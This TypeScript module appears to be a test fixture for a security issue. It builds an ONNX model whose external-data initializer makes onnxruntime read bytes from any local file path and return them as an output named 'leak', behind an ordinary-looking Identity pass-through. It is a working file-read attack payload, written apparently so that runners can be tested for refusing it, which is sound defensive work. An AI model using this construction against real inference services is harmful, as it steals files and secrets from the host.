/**
 * Models that read a file through ONNX external data (issue #12): the attack every runner must
 * refuse. Left to onnxruntime, `buildFileReadingModel` loads `length` bytes of `location` (resolved
 * against the process's working directory) into a uint8 initializer and returns them as output
 * `leak`; its input `x` (float32 [1]) comes back as `y`, so it is an ordinary-looking model.
 */
import type { onnx as P } from "onnx-proto";
import { encodeModel, GraphBuilder, ONNX_DATA_TYPE, onnx } from "./onnx-builder";

export interface FileReadingModel {
  bytes: Uint8Array;
  location: string;
  length: number;
}

/** A uint8 tensor of `length` bytes whose data is `location`'s first bytes. */
export function externalTensor(name: string, location: string, length: number): P.ITensorProto {
  return {
    name,
    dataType: ONNX_DATA_TYPE.uint8,
    dims: [length],
    dataLocation: onnx.TensorProto.DataLocation.EXTERNAL,
    externalData: [
      { key: "location", value: location },
      { key: "offset", value: "0" },
      { key: "length", value: String(length) },
    ],
  };
}

export function buildFileReadingModel(location: string, length: number): FileReadingModel {
  const g = new GraphBuilder("file_reader");
  g.input("x", "float32", [1]);
  g.op("Identity", ["x"], {}, "y");
  g.output("y", "float32", [1]);
  g.op("Identity", ["stolen"], {}, "leak");
  g.output("leak", "uint8", [length]);
  const graph = g.graph();
  graph.initializer = [externalTensor("stolen", location, length)];
  return { bytes: encodeModel(graph), location, length };
}
